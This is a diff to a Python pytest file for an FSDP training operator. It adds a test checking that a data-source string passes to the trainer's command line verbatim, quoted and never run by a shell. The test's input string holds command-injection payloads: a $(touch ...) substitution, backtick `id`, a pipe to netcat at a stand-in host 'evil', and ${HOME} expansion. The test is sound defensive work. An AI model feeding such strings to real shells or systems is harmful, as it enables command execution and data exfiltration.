@@ -2,14 +2,16 @@
 
 from __future__ import annotations
 
+import json
 import os
+import shlex
 from pathlib import Path
 from typing import Any
 
 import pytest
 import yaml
 
-from fsdp_operator import api, builder
+from fsdp_operator import api, builder, submission
 from tests.harness import example
 
 GOLDEN = Path(__file__).parent / "golden"
@@ -110,3 +112,14 @@ def test_cluster_name_is_deterministic_and_short_enough() -> None:
     assert name == builder.ray_cluster_name(long_name) and len(name) <= 40
     assert name != builder.ray_cluster_name(long_name + "x")
     assert builder.ray_cluster_name("short") == "short"
+
+
+def test_the_entrypoint_hands_hostile_strings_to_the_trainer_verbatim() -> None:
+    hostile = "s3://b/$(touch /tmp/pwned); `id` | nc evil 1 & echo ${HOME} 'q' \"d\".jsonl"
+    spec = api.FSDPTrainingRunSpec.model_validate(
+        {"model": {"source": "m"}, "checkpoint": {"storagePath": "s3://b/p"}, "data": {"source": hostile}}
+    )
+    config = submission.trainer_config(spec, RUN, cpu_only=False)
+    argv = shlex.split(submission.entrypoint(config, "run-1"))
+    assert argv[:3] == ["python", "-m", "fsdp_trainer"] and argv[-2:] == ["--submission-id", "run-1"]
+    assert json.loads(argv[4])["data"]["source"] == hostile
